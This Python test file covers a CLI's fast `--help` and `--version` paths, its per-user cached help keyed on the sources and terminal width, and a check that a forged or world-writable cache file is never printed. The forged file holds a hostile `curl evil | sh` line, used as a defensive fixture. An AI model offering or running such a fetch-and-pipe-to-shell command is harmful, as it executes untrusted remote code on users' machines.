"""`jw --help` and `jw --version` start without importing the command line (quality.md: within
6.5x `python -c pass`). `--version` prints straight away; `--help` prints what typer rendered
last time, kept per user and keyed on what it is made from, and is byte-for-byte typer's help."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from jwcli import __version__, launch
from jwcli.cli import app

PROBE = (
    "import sys\nsys.argv = ['jw', *{args!r}]\nfrom jwcli.launch import main\n"
    "try:\n    main()\nexcept SystemExit as exc:\n    code = exc.code\n"
    "print('typer' in sys.modules, file=sys.stderr)\n"
)


def _run(tmp_path: Path, *args: str, columns: int = 80, **extra: str) -> tuple[str, bool, int]:
    """stdout, whether typer was imported, exit code of `jw ARGS` through the entry point."""
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "xdg"), "COLUMNS": str(columns)}
    env.update(extra)
    done = subprocess.run(
        [sys.executable, "-c", PROBE.format(args=list(args))],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    return done.stdout, done.stderr.strip().endswith("True"), done.returncode


def _typer_help(tmp_path: Path, columns: int) -> str:
    """The help as the command line itself renders it, in a terminal `columns` wide."""
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "other"), "COLUMNS": str(columns)}
    code = "import sys\nsys.argv = ['jw', '--help']\nfrom jwcli.cli import main\nmain()\n"
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=env, check=False
    )
    assert done.returncode == 0
    return done.stdout


def test_version_needs_no_command_line(tmp_path: Path) -> None:
    out, typer_loaded, code = _run(tmp_path, "--version")
    assert (out, typer_loaded, code) == (f"jw {__version__}\n", False, 0)
    assert CliRunner().invoke(app, ["--version"]).stdout == out  # what typer's option prints


def test_help_is_typers_help_and_is_kept_for_the_next_run(tmp_path: Path) -> None:
    expected = _typer_help(tmp_path, 80)
    assert "validate" in expected and "--no-cache" in expected
    first, loaded_first, code = _run(tmp_path, "--help")
    assert (first, loaded_first, code) == (expected, True, 0)
    kept = list((tmp_path / "xdg" / "jw").glob("help-*.txt"))
    assert len(kept) == 1 and (kept[0].stat().st_mode & 0o777) == 0o600
    second, loaded_second, code = _run(tmp_path, "--help")
    assert (second, loaded_second, code) == (expected, False, 0)
    # another terminal width is another rendering, kept apart
    narrow = _typer_help(tmp_path, 60)
    assert narrow != expected
    assert _run(tmp_path, "--help", columns=60) == (narrow, True, 0)
    assert _run(tmp_path, "--help", columns=60) == (narrow, False, 0)
    assert _run(tmp_path, "--help") == (expected, False, 0)


def test_a_help_file_anyone_else_could_have_written_is_not_printed(tmp_path: Path) -> None:
    expected = _typer_help(tmp_path, 80)
    _run(tmp_path, "--help")
    (kept,) = (tmp_path / "xdg" / "jw").glob("help-*.txt")
    forged = tmp_path / "forged.txt"
    forged.write_text("Run `curl evil | sh` to fix your repository\n")
    kept.unlink()
    kept.symlink_to(forged)
    assert _run(tmp_path, "--help") == (expected, True, 0)
    kept.unlink()
    kept.write_text("Run `curl evil | sh` to fix your repository\n")
    kept.chmod(0o666)  # writable by anyone
    assert _run(tmp_path, "--help") == (expected, True, 0)


def test_other_invocations_go_through_the_command_line(tmp_path: Path) -> None:
    out, loaded, code = _run(tmp_path, "init", "--list-templates")
    assert loaded and code == 0 and out
    # shell completion asks typer, even for a lone --help
    _, loaded, _ = _run(tmp_path, "--help", _JW_COMPLETE="bash_complete", COMP_WORDS="jw --help")
    assert loaded


def test_the_help_key_follows_the_sources(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    package = Path(launch.__file__).parent
    copy = tmp_path / "jwcli"
    shutil.copytree(package, copy, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(launch, "__file__", str(copy / "launch.py"))
    monkeypatch.setenv("COLUMNS", "80")
    first = launch._help_path()
    assert first is not None and first == launch._help_path()
    monkeypatch.setenv("COLUMNS", "61")
    assert launch._help_path() != first
    monkeypatch.setenv("COLUMNS", "80")
    with (copy / "commands" / "score.py").open("a") as handle:
        handle.write("# a new option would change the help\n")
    assert launch._help_path() != first
